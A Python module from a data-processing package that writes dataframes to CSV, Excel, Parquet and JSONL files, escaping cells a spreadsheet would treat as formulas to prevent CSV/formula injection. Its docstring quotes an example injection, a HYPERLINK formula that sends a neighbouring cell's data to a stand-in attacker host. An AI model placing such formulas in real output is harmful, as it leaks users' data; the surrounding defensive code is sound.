"""Frames to files that a spreadsheet opens as what they are: text that looks like a formula stays text.

A cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a line end is a formula to a spreadsheet
program, and answers are written by a model that read other people's rows:
``=HYPERLINK("https://evil.example?"&A1)`` sends a neighbour's data away at one click. Such text gets
an apostrophe in front; numbers are left alone, as numbers and as text. In CSV text is also quoted,
since a program that takes the semicolon for the separator would find the formula in ``a;=1+1``.
"""

from __future__ import annotations

import contextlib
import csv
import importlib.util
import os
import re
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pandas as pd

from deepseek_nb.batch.frames_io import FrameForm, as_pandas
from deepseek_nb.core.errors import ConfigError

__all__ = ["escaped", "to_csv", "to_excel", "to_file"]

EXCEL_WRITERS = ("openpyxl", "xlsxwriter")
_FORMULA = re.compile("[ \u00a0\ufeff]*[=+\\-@\t\r\n\uff1d\uff0b\uff0d\uff20]")
"""The last four are full-width forms, which some programs read as the others."""
_NUMBER = re.compile(r"[+-](?:\d+(?:[.,]\d*)?|[.,]\d+)(?:[eE][+-]?\d+)?%?")
_NAMES_IN_OPTIONS = ("columns", "header", "index_label", "na_rep")


def to_csv(frame: Any, path: Any = None, *, escape_formulas: bool = True, **options: Any) -> Any:
    """Write ``frame`` as ``DataFrame.to_csv`` does (same options and result), with no formula in it.

    ``escape_formulas=False`` writes every cell as it is. Costs a copy of the text columns.

    >>> print(to_csv(pd.DataFrame({"note": ["=1+1", "fine"], "n": [-1, 2]}), index=False))
    "note","n"
    "'=1+1",-1
    "fine",2
    <BLANKLINE>
    """
    frame, options = _without_index(frame, options)
    if escape_formulas:
        frame, options = escaped(frame), {"quoting": csv.QUOTE_NONNUMERIC} | _options(options)
    return frame.to_csv(path, **options)


def to_excel(frame: Any, path: Any, *, escape_formulas: bool = True, **options: Any) -> None:
    """Write ``frame`` as ``DataFrame.to_excel`` does (same options), with no formula in it.

    Raises ConfigError, which names the line that installs it, where nothing that writes Excel files is
    installed. ``escape_formulas=False`` writes every cell as it is.

    >>> to_excel(frame, "answers.xlsx")                                    # doctest: +SKIP
    """
    if not any(importlib.util.find_spec(name) for name in EXCEL_WRITERS):
        raise ConfigError(
            "Writing Excel files needs openpyxl, which is not installed.",
            hint="Install it: pip install openpyxl",
        )
    frame, options = _without_index(frame, options)
    if escape_formulas:
        frame, options = escaped(frame), _options(options)
    frame.to_excel(path, **options)


def to_file(frame: pd.DataFrame, form: FrameForm, path: str | os.PathLike[str]) -> None:
    """Write ``frame`` without its index to a ``.csv`` (no formula in it), ``.parquet`` or ``.jsonl`` file.

    ``form`` knows its columns, which a Parquet file needs: what a list holds, and what is open.
    A file that is there is replaced at the end, in one step, and as open to others as it was. Raises
    ConfigError for another ending, for a place that cannot be written, and where nothing that writes Parquet
    is installed.
    """
    path = Path(path)
    writers: dict[str, Callable[[Path], Any]] = {
        ".csv": lambda there: to_csv(frame, there, index=False),
        ".parquet": lambda there: form.write_parquet(frame, there),
        ".jsonl": lambda there: frame.to_json(there, orient="records", lines=True, force_ascii=False),
    }
    write = writers.get(path.suffix.lower())
    if write is None:
        raise ConfigError(
            f"{path.name!r} has no ending that tells how to write it.", hint=f"Give {', '.join(writers)}."
        )
    place = path.resolve() if path.is_symlink() else path
    half = place.with_name(f".{place.name}.half")
    try:
        half.unlink(missing_ok=True)
        if place.exists():
            half.touch(0o600)
            shutil.copymode(place, half)
        write(half)
        half.replace(place)
    except OSError as why:
        raise ConfigError(f"{path.name!r} cannot be written: {why.strerror or why}.") from None
    finally:
        with contextlib.suppress(OSError):
            half.unlink(missing_ok=True)


def escaped(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` with an apostrophe before every text that a spreadsheet would take for a formula.

    Cells, column names, index and their names. Types other than text, and empty values, stay as they are.

    >>> escaped(pd.DataFrame({"@a": ["-x", "-1", -1]}))["'@a"].tolist()
    ["'-x", '-1', -1]
    """
    columns = {place: _column(frame.iloc[:, place]) for place in range(frame.shape[1])}
    copy = pd.DataFrame(columns)
    if not columns:
        copy = frame.copy()
    copy.index, copy.columns = _axis(frame.index), _axis(frame.columns)
    return copy


def _without_index(frame: Any, options: dict[str, Any]) -> tuple[pd.DataFrame, dict[str, Any]]:
    """A polars frame has no index: none is written."""
    if isinstance(frame, pd.DataFrame):
        return frame, options
    return as_pandas(frame), {"index": False, **options}


def _options(options: dict[str, Any]) -> dict[str, Any]:
    """The options, in which names of columns are escaped as the frame's are."""
    told = dict(options)
    for name in _NAMES_IN_OPTIONS:
        given = told.get(name)
        if isinstance(given, list | tuple | pd.Index):
            told[name] = [_text(each) for each in given]
        elif isinstance(given, str):
            told[name] = _text(given)
    return told


def _text(value: Any) -> Any:
    if isinstance(value, tuple):  # a label of several levels
        return tuple(_text(part) for part in value)
    if not isinstance(value, str) or not _FORMULA.match(value) or _NUMBER.fullmatch(value):
        return value
    return "'" + value


def _column(column: pd.Series[Any]) -> pd.Series[Any]:
    if isinstance(column.dtype, pd.CategoricalDtype) and _may_hold_text(column.cat.categories.dtype):
        column = column.astype(object)
    if column.dtype == object:  # map would make floats of whole numbers beside an empty place
        return pd.Series(list(map(_text, column.tolist())), index=column.index, dtype=object)
    return column.map(_text) if _may_hold_text(column.dtype) else column


def _axis(axis: pd.Index) -> pd.Index:
    if isinstance(axis, pd.CategoricalIndex) and _may_hold_text(axis.categories.dtype):
        axis = axis.astype(object)
    if len(axis) and (isinstance(axis, pd.MultiIndex) or _may_hold_text(axis.dtype)):
        axis = axis.map(_text)
    return axis.set_names([_text(name) for name in axis.names])


def _may_hold_text(dtype: Any) -> bool:
    return pd.api.types.is_object_dtype(dtype) or pd.api.types.is_string_dtype(dtype)
